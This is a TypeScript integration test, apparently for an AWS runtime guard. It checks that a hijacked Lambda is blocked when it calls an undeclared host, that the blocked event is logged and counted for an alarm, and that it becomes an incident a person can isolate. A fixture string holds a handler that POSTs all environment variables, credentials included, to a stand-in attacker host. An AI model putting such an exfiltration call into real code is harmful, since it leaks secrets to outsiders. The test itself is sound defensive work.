import { CloudWatchLogsClient, MetricFilter, paginateDescribeMetricFilters } from '@aws-sdk/client-cloudwatch-logs';
import { EventBridgeClient, PutEventsCommand } from '@aws-sdk/client-eventbridge';
import { InvokeCommand, LambdaClient, LogType } from '@aws-sdk/client-lambda';
import { CfnAlarm } from 'aws-cdk-lib/aws-cloudwatch';
import { AS_CLOUDWATCH, guardedRespondingStacks, removeFolders } from './apps';
import { guardRewriter } from './guard-rewriter';
import { eventually } from './use/eventually';
import { stoppedEvents } from './use/guard-events';
import { RespondingOrders } from './use/responding-orders';

/** Code that was taken over: it sends what it knows to a host that its function never declared. */
const TAKEN_OVER = `exports.handler = async (event) => {
  if (event.quiet) return 'nothing';
  const answer = await fetch('https://attacker.invalid/', { method: 'POST', body: JSON.stringify(process.env) });
  return answer.status;
};`;

const app = guardedRespondingStacks();
const orders = new RespondingOrders();
const lambda = new LambdaClient({});
const since = Date.now();

beforeAll(() => orders.deploy(app, { rewriter: guardRewriter({}, { code: { cancelorder: TAKEN_OVER } }) }));

afterAll(async () => {
  await orders.takeDown();
  removeFolders();
});

async function invoke(payload: object) {
  const { FunctionError, Payload, LogResult } = await lambda.send(new InvokeCommand({
    FunctionName: orders.idOf('cancel-order'), Payload: JSON.stringify(payload), LogType: LogType.Tail,
  }));
  const log = Buffer.from(LogResult ?? '', 'base64').toString();
  const events = log.split('\n').filter((line) => line.startsWith('{"_aws"')).map((line) => JSON.parse(line));
  return { FunctionError, answer: Buffer.from(Payload!).toString(), events };
}

/** Whether a line passes the filter of the function's log, of which comparisons joined by && are read. */
async function isCounted(line: Record<string, unknown>): Promise<boolean> {
  const metricFilters: MetricFilter[] = [];
  const pages = paginateDescribeMetricFilters({ client: new CloudWatchLogsClient({}) }, {});
  for await (const page of pages) metricFilters.push(...page.metricFilters ?? []);
  const { filterPattern } = metricFilters.find(({ metricTransformations }) => metricTransformations?.[0].metricName === 'Undeclared')!;
  return filterPattern!.replace(/^\{|\}$/g, '').split('&&').every((comparison) => {
    const [, field, operator, expected] = /^\s*\$\.(\w+) (=|!=) "?([^"]*?)"?\s*$/.exec(comparison)!;
    const matches = new RegExp(`^${expected.replace(/\*/g, '.*')}$`).test(String(line[field]));
    return operator === '=' ? matches : !matches;
  });
}

describe('code that was taken over', () => {
  let line: Record<string, unknown>;

  test('runs through the guard as long as it does what its function declared', async () => {
    expect(await invoke({ quiet: true })).toEqual({ FunctionError: undefined, answer: '"nothing"', events: [] });
  });

  test('is stopped where it calls a host that was not declared, and the log has the event, without what it sent', async () => {
    const { FunctionError, answer, events } = await invoke({});
    expect(FunctionError).toBe('Unhandled');
    expect(answer).not.toContain('AWS_SECRET_ACCESS_KEY');
    line = events.find(({ Kind }) => ['dns', 'egress'].includes(Kind))!;
    expect(line).toMatchObject({ FunctionName: orders.idOf('cancel-order'), Mode: 'block', Detail: expect.stringContaining('attacker.invalid'), RuntimeGuard: 1 });
    expect(JSON.stringify(events)).not.toContain('AWS_SECRET_ACCESS_KEY');
    const logged = await eventually(() => stoppedEvents(since), ({ stopped }) => stopped.length > 0);
    expect(logged?.stopped).toContainEqual({ FunctionName: line.FunctionName, kind: line.Kind, detail: line.Detail });
  });

  test('is counted for the alarm, and what everyone can send is not', async () => {
    expect(await isCounted(line)).toBe(true);
    expect(await isCounted({ ...line, Kind: 'request-attack' })).toBe(false);
    expect(await isCounted({ ...line, Kind: 'data-in-log' })).toBe(false);
  });

  test('becomes an incident of its function, which a person can isolate', async () => {
    const alarm = app.node.findAll().find((node): node is CfnAlarm => node instanceof CfnAlarm && node.metricName === 'Undeclared')!;
    const description = alarm.stack.resolve(alarm.alarmDescription)['Fn::Join']?.[1].map((part: any) => (typeof part === 'string' ? part : 'Orders')).join('')
      ?? alarm.stack.resolve(alarm.alarmDescription);
    const metric = { namespace: 'CdkZeroTrust/RuntimeGuard', name: 'Undeclared', dimensions: { FunctionName: orders.idOf('cancel-order') } };
    const first = { id: 'm', metricStat: { metric, period: 60, stat: 'Sum' } };
    await new EventBridgeClient({}).send(new PutEventsCommand({
      Entries: [{
        Source: AS_CLOUDWATCH,
        DetailType: 'CloudWatch Alarm State Change',
        Detail: JSON.stringify({
          alarmName: 'Orders-guard',
          configuration: { description, metrics: [first] },
          first,
          state: { value: 'ALARM', timestamp: '2026-11-29T10:00:00.000+0000', reason: 'Threshold Crossed' },
        }),
      }],
    }));
    const incident = await eventually(
      async () => (await orders.incidents()).find(({ finding }) => finding.type === 'RuntimeGuard'),
      (one: any) => one?.plays?.isolateFunction?.state === 'WAITING',
    );
    expect(incident).toMatchObject({
      target: { kind: 'FUNCTION', id: orders.idOf('cancel-order') }, finding: { source: 'zero-trust', severity: 8, id: 'Orders-guard/2026-11-29T10:00:00.000+0000' },
    });
  });
});
